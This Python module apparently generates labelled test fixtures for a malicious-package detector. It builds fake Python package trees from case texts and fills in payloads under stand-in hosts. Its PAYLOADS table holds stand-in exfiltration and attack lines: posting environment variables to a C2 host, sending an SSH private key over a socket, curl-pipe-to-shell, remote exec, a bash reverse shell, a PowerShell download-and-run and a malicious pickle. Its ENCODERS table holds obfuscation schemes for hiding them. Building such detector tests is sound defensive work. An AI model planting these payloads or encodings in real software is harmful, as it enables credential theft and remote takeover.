"""Package trees nobody wrote the rules for: made from the texts beside this module, inert, hosts under `example` or
`invalid`.

A text holds cases. `##### NAME | TECHNIQUE` opens one and `### PATH` a file of it; what the shape of every package needs
(metadata, a dull module) is added. In a file, a recipe like `b64 z EXF` in double angle quotes stands for a Python literal:
the payload EXF, compressed, in base64; in single ones for the same without quotes. Each name is looked up in `ENCODERS` and
`PAYLOADS`.
"""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import lzma
import marshal
import pickle
import re
import uuid
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

HERE = Path(__file__).parent
_LITERAL = re.compile("\xab([^\xbb]+)\xbb")
_BYTES = re.compile("\u2039([^\u203a]+)\u203a".encode())

PAYLOADS = {
    "EXF": "import os,urllib.request as u\n"
    "u.urlopen(u.Request('https://c2.stats-cdn.example/i',data=repr(dict(os.environ)).encode()))\n",
    "KEY": "import os,socket\n"
    "s=socket.create_connection(('203.0.113.9',8443))\n"
    "s.sendall(open(os.path.expanduser('~/.ssh/id_ed25519'),'rb').read())\n",
    "SH": "import os\nos.system('curl -fsSL https://drop.example.invalid/i.sh | sh')\n",
    "DL": "from urllib.request import urlopen as o\nexec(o('https://stage.example.invalid/2.py').read())\n",
    "CURL": "curl -s https://stage.example.invalid/x | bash",
    "NC": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "PS": "iwr https://stage.example.invalid/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe",
    "URL": "https://stage.example.invalid/next",
    "PKL": "\x80\x02cposix\nsystem\nX\x04\0\0\0true\x85R.",
    "EXEC": "exec",
    "OS": "os",
    "SYSTEM": "system",
    "ELF": "\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0>\0" + "\0" * 200,
    "PNG": "\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\2\0\0\0IEND\xaeB`\x82",
}


def _raw(value: Any) -> bytes:
    if isinstance(value, bytes):
        return value
    text = str(value)
    return text.encode("latin-1") if max(map(ord, text), default=0) < 256 else text.encode()


def _text(value: Any) -> str:
    return value.decode("latin-1") if isinstance(value, bytes) else str(value)


def _bits(value: Any, zero: str, one: str) -> str:
    return "".join(one if bit == "1" else zero for byte in _raw(value) for bit in f"{byte:08b}")


def _uuids(value: Any) -> list[str]:
    data = _raw(value)
    data += b"\n" * (-len(data) % 16)
    return [str(uuid.UUID(bytes=data[at : at + 16])) for at in range(0, len(data), 16)]


ENCODERS: dict[str, Callable[[Any], Any]] = {
    "b64": lambda value: base64.b64encode(_raw(value)).decode(),
    "b64u": lambda value: base64.urlsafe_b64encode(_raw(value)).decode(),
    "b32": lambda value: base64.b32encode(_raw(value)).decode(),
    "hex": lambda value: _raw(value).hex(),
    "b85": lambda value: base64.b85encode(_raw(value)).decode(),
    "a85": lambda value: base64.a85encode(_raw(value)).decode(),
    "z": lambda value: zlib.compress(_raw(value), 9),
    "gz": lambda value: gzip.compress(_raw(value), mtime=0),
    "lz": lambda value: lzma.compress(_raw(value)),
    "bz": lambda value: bz2.compress(_raw(value)),
    "rot13": lambda value: codecs.encode(_text(value), "rot13"),
    "mar": lambda value: marshal.dumps(compile(_text(value), "<s>", "exec")),
    "pkl": lambda value: pickle.dumps(_text(value), 0),
    "xor23": lambda value: bytes(byte ^ 23 for byte in _raw(value)),
    "xorkey": lambda value: bytes(byte ^ b"s3cr"[at % 4] for at, byte in enumerate(_raw(value))),
    "rev": lambda value: value[::-1],
    "ords": lambda value: list(_raw(value)),
    "plus7": lambda value: [byte + 7 for byte in _raw(value)],
    "u16": lambda value: _text(value).encode("utf-16-le"),
    "int": lambda value: int.from_bytes(_raw(value), "big"),
    "uuids": _uuids,
    "zw": lambda value: _bits(value, "\u200b", "\u200c"),
    "ws": lambda value: _bits(value, " ", "\t"),
    "half1": lambda value: value[: len(value) // 2],
    "half2": lambda value: value[len(value) // 2 :],
}


class Case(NamedTuple):
    """name: of the package; technique: what it is an instance of; malicious: the label; files: path in the tree -> bytes."""

    name: str
    technique: str
    malicious: bool
    files: dict[str, bytes]


def encoded(recipe: str) -> Any:
    """What `b64 z EXF` gives: the payload named last, put through the encoders from right to left."""
    *steps, payload = recipe.split()
    value: Any = PAYLOADS[payload]
    for step in reversed(steps):
        value = ENCODERS[step](value)
    return value


def filled(text: str) -> bytes:
    """The text of a file with its recipes carried out."""
    text = _LITERAL.sub(lambda found: repr(encoded(found[1])), text)
    return _BYTES.sub(lambda found: _raw(encoded(found[1].decode())), text.encode())


def cases(label: str) -> Iterator[Case]:
    """The cases of the texts whose name starts with `label`: `malicious` or `honest`."""
    for path in sorted(HERE.glob(f"{label}*.txt")):
        for block in re.split(r"(?m)^##### ", path.read_text(encoding="utf-8"))[1:]:
            head, _, body = block.partition("\n")
            name, technique = (part.strip() for part in head.split("|"))
            parts = re.split(r"(?m)^### (.+)\n", body)
            files = {where: filled(text.rstrip("\n") + "\n") for where, text in zip(parts[1::2], parts[2::2], strict=True)}
            yield Case(name, technique, label != "honest", _completed(name, files))


def _completed(name: str, files: dict[str, bytes]) -> dict[str, bytes]:
    project = f"""\
[build-system]
requires = ["setuptools>=61"]
build-backend = "setuptools.build_meta"

[project]
name = "{name}"
version = "1.4.2"
"""
    dull = {
        "pyproject.toml": project.encode(),
        "README.md": f"# {name}\n\nSmall helpers.\n".encode(),
        f"{name}/__init__.py": b'__version__ = "1.4.2"\n',
        f"{name}/shapes.py": b"def flat(rows):\n    return [cell for row in rows for cell in row]\n",
    }
    return dull | files


def written(case: Case, folder: Path) -> Path:
    """The tree of a case on disk under `folder`."""
    root = folder / case.name
    for where, data in case.files.items():
        path = root / where
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return root
